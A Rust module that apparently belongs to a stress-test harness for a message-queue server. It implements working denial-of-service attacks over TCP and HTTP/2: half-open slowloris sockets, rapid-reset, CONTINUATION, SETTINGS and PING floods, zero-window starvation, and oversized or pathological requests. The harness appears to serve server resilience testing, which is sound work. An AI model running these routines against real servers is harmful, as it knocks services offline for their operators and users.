//! The attacks. Each does its worst until its time is over, and then leaves open what it has: the server must get rid of it.

use super::raw::{Http2, PREFACE, field, frame, framed, headers, number, resource, told_from};
use std::io::{self, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::Instant;

/// Where an attack goes, and for how long.
pub(super) struct Target {
    pub(super) address: SocketAddr,
    pub(super) until: Instant,
    /// A topic with large messages.
    pub(super) topic: String,
}

/// Connections that an attack left open.
pub(super) type Left = Vec<TcpStream>;

pub struct Attack {
    pub name: &'static str,
    /// What it does.
    pub about: &'static str,
    pub(super) run: fn(&Target) -> Left,
}

/// The address of all attackers.
const ATTACKER: &str = "10.0.0.66";
/// Sockets of an attack that is about their number: fewer than a process may have open by default.
const SOCKETS: usize = 150;
/// Bytes of a body that is sent without a look at the server's windows.
const BODY: usize = 900 << 10;

pub const ATTACKS: &[Attack] = &[
    Attack { name: "one-byte", about: "sockets that send one byte", run: |t| sockets(t, b"P") },
    Attack { name: "tls", about: "sockets that begin a TLS handshake", run: |t| sockets(t, &[0x16, 3, 1, 2, 0]) },
    Attack { name: "greeting", about: "HTTP/2 connections without a call", run: |t| sockets(t, &greeting()) },
    Attack { name: "headers", about: "calls without a body", run: |t| open_calls(t, "SendMessage") },
    Attack { name: "telemetry", about: "telemetry streams without settings", run: |t| open_calls(t, "Telemetry") },
    Attack { name: "uploads", about: "large requests that stop after 16 KiB", run: uploads },
    Attack {
        name: "messages",
        about: "sends of 450,000 empty messages",
        run: |t| bodies(t, "SendMessage", &[0x0a, 0]),
    },
    Attack {
        name: "entries",
        about: "acknowledgements of 450,000 entries",
        run: |t| bodies(t, "AckMessage", &[0x1a, 0]),
    },
    Attack { name: "heartbeats", about: "heartbeats of 900 KiB", run: |t| bodies(t, "Heartbeat", &[0x22; 2]) },
    Attack { name: "routes", about: "routes for 20,000 addresses", run: routes },
    Attack { name: "tags", about: "receives with 15,000 tags", run: tags },
    Attack { name: "resets", about: "calls that are reset at once", run: resets },
    Attack { name: "continuation", about: "headers without an end", run: continuation },
    Attack { name: "settings", about: "SETTINGS without end", run: |t| flood(t, &frame(4, 0, 0, &[0, 4, 0, 1, 0, 0])) },
    Attack { name: "pings", about: "PINGs without end", run: |t| flood(t, &frame(6, 0, 0, &[7; 8])) },
    Attack { name: "no-window", about: "answers that nobody reads", run: no_window },
    Attack { name: "clients", about: "made-up clients that receive", run: clients },
    Attack { name: "names", about: "made-up topics", run: names },
];

impl Target {
    fn goes_on(&self) -> bool {
        Instant::now() < self.until
    }

    /// Repeats `step` on connections of its own, a new one whenever the server ends one.
    fn repeat(&self, settings: &[u8], mut step: impl FnMut(&mut Http2) -> io::Result<()>) -> Left {
        let mut left = Vec::new();
        while self.goes_on() {
            let Ok(mut connection) = Http2::open(self.address, ATTACKER, settings) else { continue };
            while self.goes_on() && step(&mut connection).is_ok() {}
            left.push(connection.stream);
            if left.len() > SOCKETS {
                left.remove(0);
            }
        }
        left
    }
}

fn greeting() -> Vec<u8> {
    [PREFACE, &frame(4, 0, 0, &[])].concat()
}

fn sockets(target: &Target, said: &[u8]) -> Left {
    let mut left = Vec::new();
    while target.goes_on() {
        if left.len() < SOCKETS
            && let Ok(mut socket) = TcpStream::connect(target.address)
            && socket.write_all(&[&told_from(ATTACKER)[..], said].concat()).is_ok()
        {
            left.push(socket);
        } else {
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    }
    left
}

fn open_calls(target: &Target, method: &str) -> Left {
    let mut opened = 0;
    target.repeat(&[], |connection| {
        connection.drain()?;
        opened += 1;
        if opened % 1500 == 0 {
            return Err(io::ErrorKind::Other.into());
        }
        connection.begin(method, "raw").map(drop)
    })
}

fn uploads(target: &Target) -> Left {
    let mut calls = 0;
    target.repeat(&[], |connection| {
        connection.drain()?;
        calls += 1;
        if calls % 50 == 0 {
            return Err(io::ErrorKind::Other.into());
        }
        let stream = connection.begin("SendMessage", "raw")?;
        let part = [&[0, 0x06, 0, 0, 0][..], &[7; 16 << 10]].concat();
        connection.data(stream, &part, false)
    })
}

/// Calls with bodies that repeat something. The body ends with a whole element.
fn bodies(target: &Target, method: &str, element: &[u8]) -> Left {
    let body = element.repeat(BODY / element.len());
    one_call_each(target, method, &body)
}

fn one_call_each(target: &Target, method: &str, body: &[u8]) -> Left {
    target.repeat(&[], |connection| {
        let stream = connection.call(method, "raw", body)?;
        let _ = connection.answer(stream, std::time::Duration::from_secs(2));
        // The windows are used up.
        Err(io::ErrorKind::Other.into())
    })
}

fn routes(target: &Target) -> Left {
    let addresses = field(2, &[0x0a, 1, b'h']).repeat(20_000);
    let body = [resource(1, &target.topic), field(2, &addresses)].concat();
    one_call_each(target, "QueryRoute", &body)
}

fn receive(topic: &str, expression: &str, auto_renew: bool) -> Vec<u8> {
    [
        resource(1, "attackers"),
        field(2, &resource(1, topic)),
        field(3, &[number(1, 1), field(2, expression.as_bytes())].concat()),
        number(4, 32),
        field(5, &number(1, 10)),
        number(6, u64::from(auto_renew)),
        field(7, &number(1, 5)),
    ]
    .concat()
}

fn tags(target: &Target) -> Left {
    let expression = "ab||".repeat(15_000);
    one_call_each(target, "ReceiveMessage", &receive(&target.topic, &expression, false))
}

fn resets(target: &Target) -> Left {
    let (mut stream, block) = (1_u32, headers("QueryRoute", "raw"));
    target.repeat(&[], |connection| {
        connection.drain()?;
        let mut bytes = Vec::new();
        for _ in 0..100 {
            bytes.extend(frame(1, 4, stream, &block));
            bytes.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
            stream += 2;
        }
        let sent = connection.stream.write_all(&bytes);
        if sent.is_err() {
            stream = 1;
        }
        sent
    })
}

fn continuation(target: &Target) -> Left {
    let filler = super::raw::header("x-filler", &"y".repeat(100)).repeat(100);
    let mut begun = false;
    target.repeat(&[], |connection| {
        connection.drain().inspect_err(|_| begun = false)?;
        let kind = if begun { 9 } else { 1 };
        begun = true;
        connection.stream.write_all(&frame(kind, 0, 1, &filler)).inspect_err(|_| begun = false)
    })
}

fn flood(target: &Target, bytes: &[u8]) -> Left {
    let many = bytes.repeat(1000);
    // What the server answers is not read.
    target.repeat(&[], |connection| connection.stream.write_all(&many))
}

fn no_window(target: &Target) -> Left {
    let body = receive(&target.topic, "*", false);
    let mut calls = 0;
    // One byte of room for each answer.
    target.repeat(&[0, 4, 0, 0, 0, 1], |connection| {
        connection.drain()?;
        calls += 1;
        if calls % 200 == 0 {
            return Err(io::ErrorKind::Other.into());
        }
        connection.call("ReceiveMessage", "raw", &body).map(drop)
    })
}

fn clients(target: &Target) -> Left {
    let body = framed(&receive(&target.topic, "nothing", true));
    let mut made_up = 0_u64;
    target.repeat(&[], |connection| {
        connection.drain()?;
        made_up += 1;
        let stream = connection.begin("ReceiveMessage", &format!("{made_up}-{}", "x".repeat(80)))?;
        connection.data(stream, &body, true)?;
        // Goes away again.
        connection.stream.write_all(&frame(3, 0, stream, &[0, 0, 0, 8]))
    })
}

fn names(target: &Target) -> Left {
    let mut made_up = 0_u64;
    target.repeat(&[], |connection| {
        made_up += 1;
        let stream = connection.call("QueryRoute", "raw", &resource(1, &format!("made-up-{made_up}")))?;
        connection.answer(stream, std::time::Duration::from_secs(2)).map(drop)
    })
}
